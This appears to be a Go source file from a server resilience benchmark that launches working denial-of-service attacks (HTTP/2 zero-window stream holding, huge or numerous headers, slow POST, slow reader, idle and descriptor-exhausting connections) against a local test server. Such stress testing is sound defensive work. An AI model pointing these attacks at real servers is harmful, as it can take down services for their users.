package main

import (
	"bytes"
	"cmp"
	"crypto/tls"
	"fmt"
	"io"
	"math"
	"net"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack is so many connections that do something, each again a second
// after the server has closed it.
type attack struct {
	name        string
	connections int
	descriptors int // the server's limit, or 0
	perSecond   int // connections that it opens in a second, or 0 for perSecond
	// hold keeps one connection to the server until the server closes it.
	hold func(v *victim) error
}

var attacks = []attack{
	{"zero-window", 100, 0, 0, zeroWindow(240)},
	{"headers", 4000, 0, 0, plain(func(c net.Conn) error {
		_, err := fmt.Fprintf(c, "GET /hello HTTP/1.1\r\nHost: localhost\r\nX-Long: %s", strings.Repeat("a", 60_000))
		return err
	})},
	// It is about what such headers hold. To read one takes milliseconds of the
	// processor, which net/http does before anybody can refuse it.
	{"header-fields", 1000, 0, 100, plain(func(c net.Conn) error {
		var b bytes.Buffer
		b.WriteString("GET /hello HTTP/1.1\r\nHost: localhost\r\n")
		for i := range 8_000 { // what a server makes of a line is many times its bytes
			fmt.Fprintf(&b, "%x:\r\n", i)
		}
		_, err := c.Write(b.Bytes())
		return err
	})},
	{"idle", 14_000, 0, 0, plain(func(net.Conn) error { return nil })},
	{"slow-post", 2000, 0, 0, plain(func(c net.Conn) error {
		_, err := fmt.Fprint(c, "POST /hello HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\nabc")
		return err
	})},
	{"slow-reader", 200, 0, 0, slowReader},
	{"descriptors", 1000, 256, 0, plain(func(net.Conn) error { return nil })},
}

// perSecond is how many connections an attack opens in a second, unless it says:
// more would measure what the machine can do.
const perSecond = 1000

// attackerEnv has a process be the attackers: the name of the attack, the scale
// of the number of its connections, and the addresses of the server.
const attackerEnv = "ATTACKER"

// begin starts the attackers in a process of the lowest priority, as this stands
// for machines of others: what the server does to its good clients is measured,
// not what a machine does that is the attackers' too. The function that it
// returns ends them.
func (a attack) begin(v *victim, scale float64) (end func(), err error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	cmd := exec.Command("nice", "-n", "19", self)
	cmd.Env = append(os.Environ(), fmt.Sprintf("%s=%s %g %s %s", attackerEnv, a.name, scale, v.addr, v.tls))
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		return nil, fmt.Errorf("start the attackers: %w", err)
	}
	return func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	}, nil
}

// attackIfAttacker is the whole of the process that begin starts.
func attackIfAttacker() {
	env := os.Getenv(attackerEnv)
	if env == "" {
		return
	}
	var name, addr, tls string
	var scale float64
	if _, err := fmt.Sscan(env, &name, &scale, &addr, &tls); err != nil {
		panic(err)
	}
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == name })
	attacks[i].run(&victim{addr: addr, tls: tls}, scale)
}

// run opens the connections, for ever.
func (a attack) run(v *victim, scale float64) {
	var wg sync.WaitGroup
	pace := time.NewTicker(time.Second / time.Duration(cmp.Or(a.perSecond, perSecond)))
	for range int(math.Ceil(float64(a.connections) * scale)) {
		wg.Go(func() {
			for {
				<-pace.C
				_ = a.hold(v) // it ends as the server likes
				time.Sleep(time.Second)
			}
		})
	}
	wg.Wait()
}

// plain is a connection without TLS that begins with send, and then waits.
func plain(send func(net.Conn) error) func(*victim) error {
	return func(v *victim) error {
		c, err := dial(v.addr)
		if err != nil {
			return err
		}
		defer c.Close()
		if err := send(c); err != nil {
			return err
		}
		_, err = c.Read(make([]byte, 1)) // one is enough: it holds many
		return err
	}
}

// slowReader sends many requests at a time, and reads no answer.
func slowReader(v *victim) error {
	c, err := dial(v.addr)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := c.(*net.TCPConn).SetReadBuffer(2048); err != nil {
		return err
	}
	// More answers than fit in the buffers; without an end it would be a flood.
	if _, err := io.WriteString(c, strings.Repeat("GET /hello HTTP/1.1\r\nHost: localhost\r\n\r\n", 1000)); err != nil {
		return err
	}
	select {} // to read would be to take the answers
}

// zeroWindow asks for many answers at a time, none of which may be sent, and
// again when they are cut.
func zeroWindow(streams int) func(*victim) error {
	return func(v *victim) error {
		raw, err := dial(v.tls)
		if err != nil {
			return err
		}
		defer raw.Close()
		c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		f := http2.NewFramer(c, c)
		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
			return err
		}
		var block bytes.Buffer
		enc := hpack.NewEncoder(&block)
		enc.SetMaxDynamicTableSize(0)
		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/hello"}} {
			if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
				return err
			}
		}
		next := uint32(1)
		open := func() error {
			next += 2
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: next - 2, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
		}
		for range streams {
			if err := open(); err != nil {
				return err
			}
		}
		for {
			frame, err := f.ReadFrame()
			if err != nil {
				return err
			}
			switch frame := frame.(type) {
			case *http2.SettingsFrame:
				if !frame.IsAck() {
					err = f.WriteSettingsAck()
				}
			case *http2.PingFrame:
				err = f.WritePing(true, frame.Data)
			case *http2.RSTStreamFrame:
				if frame.ErrCode == http2.ErrCodeInternal { // its deadline passed
					err = open()
				}
			}
			if err != nil {
				return err
			}
		}
	}
}

func dial(addr string) (net.Conn, error) { return net.DialTimeout("tcp", addr, 5*time.Second) }
